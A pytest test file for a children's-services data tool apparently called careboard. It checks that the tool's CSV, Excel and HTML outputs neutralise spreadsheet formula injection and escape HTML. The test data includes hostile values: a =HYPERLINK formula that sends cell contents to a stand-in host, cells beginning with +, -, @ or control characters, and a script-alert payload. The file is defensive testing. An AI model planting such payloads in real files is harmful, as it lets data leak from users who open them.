"""Every CSV and Excel file careboard writes is safe to open: a text cell that a spreadsheet would run as a
formula (=, +, -, @, tab, CR first) is made inert, numbers stay numbers; every HTML output escapes.

The hostile values come in as a council's data would (tests/data/cli/foreign has child IDs such as
=HYPERLINK(...), +1, -2, @x and <i>7</i>) and, for what data cannot carry (a tab or CR first), straight
through the writers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from careboard.safe_cells import RISKY_STARTS, csv_cell, write_table
from careboard.synth.demo import DEMO_COUNCIL as COUNCIL
from tests.cli_runs import DATA, assert_clean, run_cli

HOSTILE = ['=HYPERLINK("http://x.example/?a"&A1,"click")', "+1", "-2", "@x", "\tA", "\rB", "=1+2"]


def assert_inert_csv(text: str, numeric: set[str] = frozenset()) -> list[dict]:
    """Every cell that begins like a formula is a number in a numeric column; returns the rows."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows, "no rows written"
    for r in rows:
        for column, cell in r.items():
            if cell and cell.startswith(RISKY_STARTS):
                assert column in numeric and _is_number(cell), f"live cell in column {column!r}: {cell!r}"
    return rows


def assert_inert_xlsx(path: Path, expected_text: set[str] = frozenset()) -> None:
    """No formula cells anywhere; the hostile values are kept, whole, as text."""
    import openpyxl

    text = set()
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula in {ws.title}!{c.coordinate}: {c.value!r}"
                if c.data_type == "s":   # control characters are stored as _x000D_ (OOXML), which Excel reads back
                    text.add(re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), c.value))
    assert expected_text <= text, f"missing as text: {expected_text - text}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", HOSTILE)
def test_a_risky_text_cell_gets_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value, cell", [(-2, -2), (-2.5, -2.5), (0, 0), (True, 1), (None, ""), ("C001", "C001"),
                                         ("a=b", "a=b"), (date(2025, 3, 31), "31/03/2025")])
def test_numbers_dates_and_ordinary_text_are_kept(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_over_hostile_values(tmp_path, suffix):
    """The writer behind `indicators --output` (and any other table careboard writes)."""
    path = write_table(tmp_path / f"t{suffix}", ["child", "days"], [[v, -i] for i, v in enumerate(HOSTILE)])
    if suffix == ".csv":
        rows = assert_inert_csv(path.read_bytes().decode("utf-8"), numeric={"days"})
        assert [r["child"] for r in rows] == ["'" + v for v in HOSTILE]
        assert [r["days"] for r in rows] == [str(-i) for i in range(len(HOSTILE))]
    else:
        assert_inert_xlsx(path, set(HOSTILE))
        import openpyxl

        days = [r[1] for r in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
        assert days == [-i for i in range(len(HOSTILE))]   # numbers as numbers, negatives included


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> str:
    db = str(tmp_path_factory.mktemp("hostile") / "s.duckdb")
    assert_clean(run_cli("load", str(DATA / "foreign"), "--db", db), {0})
    return db


def test_children_csv_is_inert(hostile_store):
    run = run_cli("children", "cla_count", "--db", hostile_store)
    rows = assert_inert_csv(run.out, numeric={"line"})
    children = {r["child"] for r in rows}
    assert {"'+1", "'-2", "'@X"} <= children   # the loader upper-cases codes, CHILD among them
    assert any(c.startswith("'=HYPERLINK(") for c in children)


def test_due_csv_is_inert(hostile_store):
    run = run_cli("due", "--db", hostile_store)
    rows = assert_inert_csv(run.out, numeric={"days_overdue", "review"})
    assert "'+1" in {r["child"] for r in rows}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_indicators_output_is_inert(hostile_store, tmp_path, suffix):
    path = tmp_path / f"i{suffix}"
    assert_clean(run_cli("indicators", "--output", str(path), "--db", hostile_store), {0})
    if suffix == ".csv":
        assert_inert_csv(path.read_text(encoding="utf-8"), numeric={"numerator", "denominator", "value"})
    else:
        assert_inert_xlsx(path, {"cla_count", "Number of children in care"})


def test_report_html_escapes(hostile_store, tmp_path):
    council = tmp_path / "council.toml"
    council.write_text(COUNCIL.read_text(encoding="utf-8").replace(
        'name = "Demo Council"', 'name = "<script>alert(1)</script> & =HYPERLINK()"'), encoding="utf-8")
    run = run_cli("report", "--no-pdf", "--council", str(council), "--out", str(tmp_path), "--db", hostile_store)
    assert_clean(run, {0})
    html = next(tmp_path.glob("committee-report-*.html")).read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; =HYPERLINK()" in html


@pytest.fixture(scope="module")
def validation_outputs(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("validation")
    run = run_cli("validate", str(DATA / "foreign"), *(f"--output={out / name}" for name in ("e.csv", "e.xlsx", "e.html")))
    assert_clean(run, {1})
    return out


def test_validation_csv_is_inert(validation_outputs):
    assert_inert_csv((validation_outputs / "e.csv").read_text(encoding="utf-8"), numeric={"row", "line"})


def test_validation_xlsx_is_inert(validation_outputs):
    assert_inert_xlsx(validation_outputs / "e.xlsx", {'=HYPERLINK("http://x.example/?a"&A1;"click")', "+1", "-2"})


def test_validation_html_escapes(validation_outputs):
    html = (validation_outputs / "e.html").read_text(encoding="utf-8")
    assert "<i>7</i>" not in html and "&lt;i&gt;7&lt;/i&gt;" in html


def test_careboard_own_words_in_a_validation_csv_never_begin_like_a_formula():
    # The validation CSV writes a rule's code, severity, fields and message and a table's name as they are
    # (rule_results.Failures.own_words); this is what lets it.
    from careboard.formats.registry import SSDA903
    from careboard.validate.registry import RULES

    words = [w for r in RULES for w in (r.code, r.severity, r.message, " ".join(r.fields))] + list(SSDA903.tables())
    risky = [w for w in words if w.startswith(RISKY_STARTS)]
    assert not risky, f"careboard's own words beginning like a formula: {risky[:5]}"


def test_a_validation_csv_checks_every_column_that_holds_data(tmp_path, monkeypatch):
    # The child, the values and the file's name come from the council: each is made safe as it is written.
    from careboard.validate.output import write_csv
    from careboard.validate.session import validate_paths

    monkeypatch.chdir(tmp_path)
    (tmp_path / "=cmd").mkdir()
    (tmp_path / "=cmd" / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n@x,9,-1,+2,,,\n")
    outcome = validate_paths([Path("=cmd")], 2026)
    assert outcome.failures.own_words and not {"child", "values", "file"} & outcome.failures.own_words
    rows = assert_inert_csv(write_csv(outcome, tmp_path / "e.csv").read_text(encoding="utf-8"), numeric={"row", "line"})
    assert {r["child"] for r in rows} == {"'@x"} and {r["file"] for r in rows} == {"'=cmd/header.csv"}
